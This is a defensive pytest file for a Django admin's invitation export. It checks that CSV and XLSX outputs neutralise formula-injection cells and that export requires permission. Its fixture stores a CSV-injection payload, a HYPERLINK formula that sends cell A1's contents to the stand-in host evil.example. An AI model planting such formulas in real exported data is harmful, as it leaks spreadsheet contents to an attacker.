"""Invitation export from the admin (CSV and XLSX): every formula cell comes back as text."""

import csv
import io

import openpyxl
import pytest

from participants.models import Invitation
from participants.resources import InvitationExportResource

EXPORT_URL = "/admin/participants/invitation/export/"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Clic")'


@pytest.fixture
def invitations(demo, people):
    mx = demo.delegations.get(country_id="MX")
    Invitation.objects.create(
        workshop=demo,
        email="evil@gob.mx",
        full_name=EVIL,
        delegation=mx,
        institution="+52 Fiscalía",
        position="@cargo",
        status=Invitation.Status.DRAFT,
    )
    Invitation.objects.create(
        workshop=demo,
        email="ana@gob.mx",
        full_name="Ana Pérez",
        delegation=mx,
        institution="-",
        position="\tjefa",
        status=Invitation.Status.DRAFT,
    )


def export(client, file_format: str):
    fields = {
        f"{InvitationExportResource.__name__.lower()}_{name}": "on"
        for name in InvitationExportResource().get_export_order()
    }
    index = {"csv": "0", "xlsx": "1"}[file_format]
    return client.post(EXPORT_URL, {"resource": "0", "format": index, **fields})


def test_export_csv_neutralises_formula_cells(invitations, people, client_as):
    response = export(client_as(people["staff"]), "csv")

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_email = {row["email"]: row for row in rows}
    assert by_email["evil@gob.mx"]["name"] == "'" + EVIL
    assert by_email["evil@gob.mx"]["institution"] == "'+52 Fiscalía"
    assert by_email["evil@gob.mx"]["position"] == "'@cargo"
    assert by_email["ana@gob.mx"]["name"] == "Ana Pérez"
    assert by_email["ana@gob.mx"]["institution"] == "'-"
    assert by_email["ana@gob.mx"]["position"] == "'\tjefa"
    assert by_email["ana@gob.mx"]["country"] == "MX"


def test_export_xlsx_has_no_formula_cell(invitations, people, client_as):
    response = export(client_as(people["staff"]), "xlsx")

    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas as written
    sheet = workbook.active
    headers = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = [row[headers.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + EVIL in names


def test_export_needs_the_view_permission(invitations, client_as):
    from participants.models import User

    clerk = User.objects.create_user(username="clerk", email="clerk@x.org", is_staff=True)

    response = export(client_as(clerk), "csv")

    assert response.status_code == 403
